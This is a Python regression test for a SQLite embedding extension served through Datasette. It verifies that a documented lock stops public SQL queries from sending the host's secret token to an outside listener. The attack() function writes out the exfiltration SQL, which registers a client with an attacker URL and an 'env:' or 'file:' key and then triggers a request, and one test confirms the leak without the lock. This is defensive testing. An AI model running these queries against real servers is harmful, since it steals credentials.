"""The recipe of SECURITY.md for Datasette: a public SQL form, and the two GETs that had a secret sent to a listener.
One line a test and, last, the counts."""

import json
import os
import pathlib
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

ROOT = pathlib.Path(__file__).resolve().parents[3]
sys.path.insert(0, str(ROOT / "tests/fake"))
from launch import Fake  # noqa: E402

LIB = os.environ.get("REMBED_LIB") or str(ROOT / "target/release/libsqlite_rembed.so")
SECRET = "the-hosts-own-secret"
LOCK = 'conn.execute("SELECT rembed_lock()").fetchone()'


def recipe():
    """The plugin as SECURITY.md has it, with this machine's library and the fake's address."""
    text = (ROOT / "SECURITY.md").read_text()
    blocks = [block for block in re.findall(r"```python\n(.*?)```", text, re.S) if "prepare_connection" in block]
    assert len(blocks) == 1 and LOCK in blocks[0], blocks
    plugin, count = re.subn(r"/usr/local/lib/rembed0\b", LIB, blocks[0])
    assert count == 1
    plugin, count = re.subn(r"http://localhost:11434\b", fake, plugin)
    assert count == 1
    return plugin


class Listener:
    """The stranger's server: it keeps what it is sent, and answers nothing."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        self.heard = b""
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            with self.socket.accept()[0] as stranger:
                self.heard += b"somebody came\n" + stranger.recv(65536)


class Datasette:
    """A server with this plugin, on a folder and a port of its own."""

    def __init__(self, plugin, **environment):
        self.folder = tempfile.TemporaryDirectory(prefix="rembed-datasette-")
        folder = pathlib.Path(self.folder.name)
        (folder / "plugins").mkdir()
        (folder / "plugins" / "rembed.py").write_text(plugin)
        self.secret = folder / "secret"
        self.secret.write_text(SECRET + "\n")
        with socket.create_server(("127.0.0.1", 0)) as free:
            port = free.getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"
        inherited = {n: v for n, v in os.environ.items() if not n.startswith("REMBED_") and not n.endswith("_KEY")}
        self.log = open(folder / "log", "w+")
        self.process = subprocess.Popen(
            [sys.executable, "-m", "datasette", "serve", "--memory", "--plugins-dir", folder / "plugins",
             "--host", "127.0.0.1", "--port", str(port), "--setting", "sql_time_limit_ms", "20000"],
            env={**inherited, "SECRET_TOKEN": SECRET, **environment}, stdout=self.log, stderr=self.log,
        )

    def __enter__(self):
        for _ in range(200):
            try:
                assert self.get("SELECT 1") == (200, [1])
                return self
            except urllib.error.URLError:
                assert self.process.poll() is None, self.said()
                time.sleep(0.1)
        raise AssertionError("no answer: " + self.said())

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait(20)
        self.log.close()
        self.folder.cleanup()

    def said(self):
        self.log.seek(0)
        return self.log.read()

    def get(self, sql):
        """Status and first column, or the error: one public GET."""
        url = f"{self.url}/_memory.json?" + urllib.parse.urlencode({"sql": sql, "_shape": "arrays"})
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with opener.open(url, timeout=30) as reply:
                return reply.status, [row[0] for row in json.load(reply)["rows"]]
        except urllib.error.HTTPError as refused:
            return refused.code, json.load(refused)["error"]


def attack(server, key):
    """What the listener heard, and what the stranger was told."""
    listener = Listener()
    told = [
        server.get(sql)
        for sql in (
            f"SELECT rembed_register('e', 'format', 'openai', 'url', '{listener.url}', 'key', '{key}',"
            " 'scope', 'process', 'timeout', 2, 'retries', 0)",
            "SELECT rembed('e', 'x')",
        )
    ]
    return listener.heard.decode(), told


def keys(server):
    return "env:SECRET_TOKEN", f"file:{server.secret}"


def the_recipe_refuses_the_attack(plugin):
    with Datasette(plugin) as server:
        for key in keys(server):
            heard, ((status, registered), (_, embedded)) = attack(server, key)
            assert heard == "", heard
            assert status == 400 and registered.startswith("locked by rembed_lock(): "), registered
            assert "'e' was not registered" in embedded and "Registered are: docs" in embedded, embedded
        assert server.get("SELECT length(rembed('docs', 'text'))") == (200, [3072])
        for sql in ("rembed_unregister('docs')", "rembed_cache_clear()", "rembed_register('docs', 'openai')"):
            status, error = server.get(f"SELECT {sql}")
            assert status == 400 and error.startswith("locked by rembed_lock(): "), error
        # Whoever enabled loading must have disabled it again.
        status, error = server.get(f"SELECT load_extension('{LIB}')")
        assert status == 400 and "not authorized" in error, error


def a_locked_process_refuses_it_too(plugin):
    config = json.dumps({"clients": {"docs": {"format": "ollama", "model": "m", "url": fake}}})
    with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
        file.write(config)
        file.flush()
        # A plugin that only loads.
        plugin = re.sub(r"(?s)    conn.execute\(.*", "", plugin)
        with Datasette(plugin, REMBED_LOCK="1", REMBED_CONFIG=file.name) as server:
            for key in keys(server):
                heard, ((status, registered), (_, embedded)) = attack(server, key)
                assert heard == "" and "'e' was not registered" in embedded, (heard, embedded)
                assert status == 400 and registered.startswith("locked by REMBED_LOCK: "), registered
            assert server.get("SELECT length(rembed('docs', 'text'))") == (200, [3072])


def without_the_lock_it_succeeds(plugin):
    """Or else the tests above would show nothing."""
    with Datasette(plugin.replace(LOCK, "pass")) as server:
        for key in keys(server):
            heard, _ = attack(server, key)
            assert f"authorization: bearer {SECRET}" in heard.lower(), heard


provider = Fake()
fake = provider.url
failed = 0
tests = (the_recipe_refuses_the_attack, a_locked_process_refuses_it_too, without_the_lock_it_succeeds)
for test in tests:
    try:
        test(recipe())
        print("ok", test.__name__)
    except Exception as error:  # the next test runs
        failed += 1
        print("FAILED", test.__name__, repr(error))
provider.close()
print(f"{len(tests) - failed} passed, {failed} failed")
sys.exit(failed > 0)
